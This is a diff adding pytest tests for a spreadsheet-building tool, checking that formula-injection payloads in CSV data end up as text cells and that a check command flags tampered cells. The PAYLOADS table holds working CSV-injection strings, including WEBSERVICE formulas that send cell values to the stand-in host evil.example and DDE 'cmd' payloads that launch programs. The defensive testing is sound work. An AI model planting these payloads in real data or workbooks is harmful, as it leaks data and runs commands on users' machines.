@@ -583,3 +583,102 @@ def test_read_workbook_counts_cells_without_parsing_the_sheets(tmp_path):
     with pytest.raises(WorkbookError, match="more than 200,000 cells"):
         read_workbook(path)
     assert time.perf_counter() - start < 5
+
+
+# ---------------------------------------------------------------------------------------------
+# formula injection: text from data is written as text, through build and refresh
+
+
+PAYLOADS = {  # (file, row, column) -> the usual CSV-injection payloads
+    ("company_news.csv", 2, "news"):
+        '=IFERROR(WEBSERVICE("http://evil.example/?leak="&Assumptions!B5),"see source")',
+    ("company_news.csv", 3, "news"): "+1+cmd|' /C calc'!A0",
+    ("company_news.csv", 4, "news"): "-2+3+cmd|' /C calc'!A0",
+    ("company_news.csv", 5, "news"): "@SUM(1+1)*cmd|' /C calc'!A0",
+    ("company_news.csv", 6, "news"): "\t=1+1",
+    ("claims.csv", 6, "claim"): '=HYPERLINK("http://evil.example/claim","Click")',
+    ("claims.csv", 6, "figure"): "=1+2",
+    ("claims.csv", 9, "note"): "=WEBSERVICE(\"http://evil.example/note\")",  # S8: in a claims block
+    ("assumptions.csv", 2, "description"): '=WEBSERVICE("http://evil.example/description")',
+    ("assumptions.csv", 2, "unit"): "=2*3",
+}
+
+
+@pytest.fixture(scope="module")
+def hostile_data(tmp_path_factory) -> Path:
+    """The embedded data with formula payloads in news, claims, units and descriptions."""
+    folder = tmp_path_factory.mktemp("hostile") / "data"
+    shutil.copytree(DEFAULT_DATA_DIR, folder)
+    for (file, row, column), payload in PAYLOADS.items():
+        set_cell(folder, file, row, column, payload)
+    assert load_dataset(folder).news[0]["news"] == PAYLOADS[("company_news.csv", 2, "news")]
+    return folder
+
+
+def assert_payloads_are_text(path: Path) -> None:
+    """No cell of any sheet holds a formula with a payload; each payload is a text cell."""
+    from openpyxl import load_workbook
+
+    book = load_workbook(path, keep_vba=path.suffix == ".xlsm")
+    found: dict[str, int] = {}
+    for ws in book.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                value = cell.value
+                if cell.data_type == "f":
+                    text = str(getattr(value, "text", value))
+                    assert "evil.example" not in text and "cmd|" not in text, (ws.title, cell.coordinate)
+                    assert text not in ("=1+2", "=2*3", "=1+1"), (ws.title, cell.coordinate, text)
+                elif isinstance(value, str):
+                    for payload in PAYLOADS.values():
+                        if payload.strip() in value:
+                            found[payload] = found.get(payload, 0) + 1
+    assert set(found) == set(PAYLOADS.values())
+
+
+@pytest.fixture(scope="module")
+def hostile_build(hostile_data: Path, tmp_path_factory) -> Path:
+    from xl_negcoke.cli import main
+
+    out = tmp_path_factory.mktemp("built")
+    assert main(["build", "--data", str(hostile_data), "--out", str(out)]) == 0
+    return out
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".xlsm"])
+def test_build_writes_every_payload_as_text_in_both_workbooks(hostile_build, suffix):
+    """Build from data whose texts start with =, +, -, @ or a tab: in both workbooks every one
+    is a text cell and no formula carries a payload."""
+    assert_payloads_are_text(hostile_build / f"negative-coke-outlook-2024-2030{suffix}")
+
+
+def test_refresh_with_the_data_writes_every_payload_as_text(hostile_data, tmp_path):
+    """`refresh --data` of the committed workbook with those texts keeps them text."""
+    from xl_negcoke.cli import main
+
+    path = tmp_path / "book.xlsx"
+    shutil.copyfile(COMMITTED, path)
+    assert main(["refresh", str(path), "--data", str(hostile_data)]) == 0
+    assert_payloads_are_text(path)
+
+
+def test_check_flags_a_formula_standing_in_a_text_cell(hostile_build, hostile_data, tmp_path, capsys):
+    """A Sources text cell turned into a formula is reported by check (exit 1), naming the cell;
+    the text cells the build wrote are not."""
+    from openpyxl import load_workbook
+
+    from xl_negcoke.cli import main
+    from xl_negcoke.workbook.files import book_bytes
+
+    book = load_workbook(hostile_build / "negative-coke-outlook-2024-2030.xlsx")
+    sources = book["Sources"]
+    payload = PAYLOADS[("company_news.csv", 2, "news")]
+    cell = next(c for row in sources.iter_rows() for c in row if c.value == payload)
+    cell.value = payload  # what the program used to write: a live formula
+    assert cell.data_type == "f"
+    path = tmp_path / "tampered.xlsx"
+    path.write_bytes(book_bytes(book))
+    assert main(["check", str(path), "--data", str(hostile_data)]) == 1
+    lines = [line for line in capsys.readouterr().out.splitlines() if "template writes text" in line]
+    assert lines == [f"Sources!{cell.coordinate}: a formula where the template writes text (from the "
+                     "data or a label); text is never written as a formula"]
